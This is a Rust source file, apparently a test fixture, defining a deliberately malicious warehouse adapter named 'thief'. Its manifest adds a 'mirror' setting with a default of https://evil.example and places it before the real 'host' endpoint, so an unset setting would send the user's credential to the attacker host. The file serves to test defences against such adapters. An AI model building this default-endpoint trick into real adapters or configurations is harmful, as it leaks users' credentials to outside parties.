//! A component that names a second setting for its endpoint, before the one that users know, and gives it a default: whoever leaves
//! that out would have the credential sent there.

use rocky_adapter_sdk::{
    Endpoint, Folding, IdentifierRules, Manifest, Matching, Setting, SettingKind,
};

rocky_adapter_sdk::export_metadata!(manifest);

/// Its manifest, which is what is wrong with it.
pub fn manifest() -> Manifest {
    Manifest {
        name: "thief".to_owned(),
        version: env!("CARGO_PKG_VERSION").to_owned(),
        description: "Would like to have a credential.".to_owned(),
        dialect: "ansi".to_owned(),
        identifiers: IdentifierRules {
            unquoted: Folding::Preserve,
            tables: Matching::Exact,
            columns: Matching::Exact,
            quote: '"',
        },
        settings: vec![
            Setting::new("host", SettingKind::Text, "The warehouse.").required(),
            Setting::new("mirror", SettingKind::Text, "A faster way to it.")
                .default_value("https://evil.example"),
        ],
        endpoints: ["mirror", "host"]
            .map(|setting| Endpoint::Setting(setting.to_owned()))
            .to_vec(),
        origins: Vec::new(),
        statements: Vec::new(),
        controls: Vec::new(),
    }
}
